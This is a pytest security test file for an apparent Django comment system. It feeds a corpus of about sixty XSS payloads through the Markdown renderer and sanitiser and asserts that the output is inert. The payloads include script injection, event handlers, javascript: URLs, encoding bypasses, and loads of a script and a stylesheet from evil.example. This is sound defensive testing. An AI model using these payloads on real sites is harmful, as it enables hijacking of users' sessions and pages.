"""Everything stored in ``body_html`` must be inert, whatever the author typed."""

import re
from html.parser import HTMLParser

import pytest

from apps.comments.models import Comment
from apps.comments.services import comment_create
from apps.core.markdown import render_markdown, sanitize_html
from tests.factories import make_paper, make_user

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<a onmouseover=alert(1)>hover</a>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="color:red">styled</p>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<base href="javascript:alert(1)//">',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    '[click](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    '![x](https://x.example/a.png" onerror="alert(1))',
    "<javascript:alert(1)>",
    '<https://ok.example/"onmouseover="alert(1)>',
    "[a]: javascript:alert(1)\n\n[link][a]",
    "$<script>alert(1)</script>$",
    "$$\n</div><script>alert(1)</script>\n$$",
    "$x$<img src=x onerror=alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```html" onmouseover="alert(1)\n<b>x</b>\n```',
    "`<script>alert(1)</script>`",
    "@<script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '<a href="https://ok.example" target="_blank" style="position:fixed">x</a>',
    '<span class="math" onclick="alert(1)">$x$</span>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<isindex type=image src=1 onerror=alert(1)>",
]

DANGEROUS_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "object",
    "embed",
    "form",
    "input",
    "svg",
    "math",
    "img",
    "link",
    "meta",
    "base",
    "video",
    "audio",
    "source",
    "details",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "data"}


class _Elements(HTMLParser):
    """The elements and attributes a browser would build from the stored HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))


def assert_inert(html: str) -> None:
    lowered = html.lower()
    # Markup, not text: "&lt;script&gt;" shown as text is fine, a real tag is not.
    for needle in ("<script", "<iframe", "<style", "<svg", "<object", "<embed"):
        assert needle not in lowered, html
    parser = _Elements()
    parser.feed(html)
    for tag, attrs in parser.elements:
        assert tag not in DANGEROUS_TAGS, html
        for name, value in attrs:
            assert not name.startswith("on"), html
            assert name != "style", html
            if name in URL_ATTRIBUTES:
                url = re.sub(r"[\x00-\x20]", "", value or "").lower()
                assert url.startswith(("https:", "http:", "mailto:", "/", "#")), html


def test_corpus_is_large_enough():
    assert len(PAYLOADS) >= 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_renders_inert(payload):
    assert_inert(render_markdown(payload))


@pytest.mark.django_db
def test_stored_html_of_every_payload_is_inert():
    paper = make_paper()
    for payload in PAYLOADS:
        # Through the service, as a user would post it (one author each: rate limits).
        comment_create(author=make_user(), paper=paper, body=payload)

    stored = list(Comment.objects.values_list("body_html", flat=True))

    assert len(stored) == len(PAYLOADS)
    for html in stored:
        assert_inert(html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitiser_alone_makes_raw_html_inert(payload):
    """Defence in depth: even HTML that bypassed Markdown escaping comes out inert."""
    assert_inert(sanitize_html(payload))
